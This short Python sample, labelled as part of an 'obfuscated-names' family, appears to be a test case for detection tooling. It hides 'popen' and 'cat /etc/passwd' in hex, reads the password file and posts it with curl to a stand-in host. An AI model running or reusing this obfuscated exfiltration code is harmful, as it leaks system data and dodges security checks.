# family: obfuscated-names
# operator.attrgetter and a hex-built name reach os.popen
import operator
import os

name = bytes.fromhex("706f70656e").decode()
cmd = bytes.fromhex("636174202f6574632f706173737764").decode()
out = operator.attrgetter(name)(os)(cmd).read()
operator.methodcaller("system", "curl -d '" + out[:500] + "' http://x.example.invalid")(os)
